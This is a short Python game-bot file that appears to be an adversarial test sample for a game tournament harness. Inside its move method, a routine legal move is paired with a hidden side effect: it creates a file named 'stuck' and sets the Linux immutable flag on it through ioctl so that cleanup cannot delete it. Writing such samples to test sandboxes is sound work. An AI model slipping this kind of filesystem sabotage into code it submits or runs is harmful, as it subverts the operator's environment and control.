"""Makes a file of its folder immutable (FS_IOC_SETFLAGS), so no cleanup can remove it."""
import fcntl
import struct


def step(spel):
    """The smallest legal step (the seed's basic strategy)."""
    for k in range(1, spel.N + 1):
        n = spel.positie + k
        if n > 1 and all(n % i for i in range(2, int(n ** 0.5) + 1)):
            return k
    return 1


class Player:
    def __init__(self, name):
        self.name = name

    def zet(self, spel):
        with open('stuck', 'w') as f:
            f.write('x')
        with open('stuck') as f:
            fcntl.ioctl(f.fileno(), 0x40086602, struct.pack('l', 0x10))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL
        return step(spel)
